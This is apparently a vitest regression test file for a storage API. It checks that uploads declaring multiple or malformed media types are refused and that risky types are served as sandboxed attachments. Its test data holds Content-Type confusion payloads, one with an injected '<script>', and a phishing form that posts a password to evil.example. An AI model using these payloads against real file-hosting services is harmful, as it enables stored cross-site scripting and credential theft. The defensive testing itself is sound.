import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer, type TestServer } from '../support/server.ts';
import {
  createStorageFixtures,
  storageFetch,
  storedFiles,
  testUser,
  type StorageErrorBody,
  type TestUser,
} from './storage-helpers.ts';

// Finding F5 of issue 11: an upload declared `text/plain; x=y, text/html` was kept and served
// inline, and Chromium, which reads a Content-Type as a list and takes the last type, rendered
// it as a page of the API's origin. One media type per upload; only a short list inline.

let server: TestServer;
let alice: TestUser;

beforeAll(async () => {
  server = await startTestServer({ schema: 'platform' });
  await createStorageFixtures(server);
  alice = testUser(server);
});
afterAll(async () => {
  await server?.close();
});

const files = () => alice.client.storage.from('files');

const HOSTILE_TYPES = [
  'text/plain; x=y, text/html',
  'text/html, text/plain',
  'text/plain, text/html',
  'text/plain; charset=utf-8, text/html',
  'text/plain; charset="utf-8, text/html"',
  'text/plain;charset=utf-8;text/html',
  'text/plain; charset=utf-8; charset=iso-8859-1',
  'text/plain; x=y',
  'image/png; name=page.html',
  'application/pdf; charset=utf-8',
  'text/plain; charset=<script>',
  'text/ html',
  'text/plain; charset=',
];

const invalidMimeType = (type: string): StorageErrorBody => ({
  statusCode: '415',
  code: 'InvalidMimeType',
  error: 'invalid_mime_type',
  message: `mime type ${type.trim()} is not supported`,
});

describe('uploads declare exactly one media type (F5)', () => {
  it.each(HOSTILE_TYPES)('refuses a raw upload declared %j and keeps nothing', async (type) => {
    const before = await storedFiles(server);
    const path = `${alice.id}/hostile/raw.txt`;
    const response = await storageFetch(server, `/object/files/${path}`, {
      method: 'POST',
      token: alice.token,
      headers: { 'content-type': type },
      body: '<form action="https://evil.example/"><input name="password"></form>',
    });
    expect(response.status).toBe(400);
    expect(await response.json()).toEqual(invalidMimeType(type));
    expect(await storedFiles(server)).toEqual(before);
    expect((await files().exists(path)).data).toBe(false);
  });

  it('refuses the same types in a multipart file part, a contentType field and an update', async () => {
    const path = `${alice.id}/hostile/multipart.txt`;
    const asPart = await files().upload(
      path,
      new Blob(['<h1>phish</h1>'], { type: 'text/plain; x=y, text/html' }),
    );
    expect(asPart.error).toMatchObject({ statusCode: '415' });

    const form = new FormData();
    form.append('contentType', 'text/html, text/plain');
    form.append('', new Blob(['<h1>phish</h1>'], { type: 'text/plain' }), 'a.txt');
    const asField = await storageFetch(server, `/object/files/${path}`, {
      method: 'POST',
      token: alice.token,
      body: form,
    });
    expect(await asField.json()).toEqual(invalidMimeType('text/html, text/plain'));

    expect((await files().upload(path, 'fine', { contentType: 'text/plain' })).error).toBeNull();
    const update = await files().update(path, 'changed', {
      contentType: 'text/plain; charset=utf-8, text/html',
    });
    expect(update.error).toMatchObject({ statusCode: '415' });
    expect(await (await files().download(path)).data!.text()).toBe('fine');
  });

  it.each([
    'text/plain;charset=UTF-8',
    'text/plain; charset="utf-8"',
    'text/csv; charset=utf-8',
    'application/json; charset=utf-8',
    'image/svg+xml; charset=utf-8',
    'image/png',
    'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    'application/octet-stream',
  ])('accepts %j and serves it back as given', async (type) => {
    const path = `${alice.id}/fine/${encodeURIComponent(type)}`;
    const { error } = await files().upload(path, 'x', { contentType: type, upsert: true });
    expect(error).toBeNull();
    const response = await storageFetch(server, `/object/files/${path}`, { token: alice.token });
    await response.arrayBuffer();
    expect(response.headers.get('content-type')).toBe(type);
  });
});

describe('only a short list of types is shown inline', () => {
  async function served(name: string, type: string) {
    const path = `${alice.id}/served/${name}`;
    const { error } = await files().upload(path, 'content', { contentType: type, upsert: true });
    expect(error).toBeNull();
    const response = await storageFetch(server, `/object/files/${path}`, { token: alice.token });
    await response.arrayBuffer();
    return response.headers;
  }

  const expectSandboxedAttachment = (headers: Headers) => {
    expect(headers.get('content-disposition')).toMatch(/^attachment; filename="/);
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    const csp = headers.get('content-security-policy')!;
    expect(csp).toMatch(/(^|; )sandbox(;|$)/);
    expect(csp).toContain("default-src 'none'");
  };

  it.each([
    ['notes.txt', 'text/plain'],
    ['table.csv', 'text/csv; charset=utf-8'],
    ['data.json', 'application/json'],
    ['page.md', 'text/markdown; charset=utf-8'],
    ['tone.mid', 'audio/midi'],
    ['clip.mkv', 'video/x-matroska'],
    ['book.epub', 'application/epub+zip'],
  ])('serves %s (%s) as a sandboxed attachment', async (name, type) => {
    expectSandboxedAttachment(await served(name, type));
  });

  it('serves plain text with a charset inline', async () => {
    const headers = await served('letter.txt', 'text/plain; charset=utf-8');
    expect(headers.get('content-disposition')).toMatch(/^inline; /);
    expect(headers.get('content-security-policy')).not.toContain('sandbox');
  });

  it('never repeats a stored type that is not exactly one media type', async () => {
    // A row stored before uploads were checked: the type goes out as bytes, sandboxed.
    const path = `${alice.id}/served/legacy.txt`;
    const uploaded = await files().upload(path, '<h1>phish</h1>', { contentType: 'text/plain' });
    expect(uploaded.error).toBeNull();
    await server.db.serverWork().query(
      `update storage.objects set metadata = jsonb_set(metadata, '{mimetype}', $2::jsonb)
        where bucket_id = 'files' and name = $1`,
      [path, JSON.stringify('text/plain; x=y, text/html')],
    );
    const direct = await storageFetch(server, `/object/files/${path}`, { token: alice.token });
    expect(await direct.text()).toBe('<h1>phish</h1>');
    expect(direct.headers.get('content-type')).toBe('application/octet-stream');
    expectSandboxedAttachment(direct.headers);

    const { data } = await files().createSignedUrl(path, 60);
    const signed = await fetch(data!.signedUrl);
    await signed.arrayBuffer();
    expect(signed.headers.get('content-type')).toBe('application/octet-stream');
    expectSandboxedAttachment(signed.headers);
  });
});
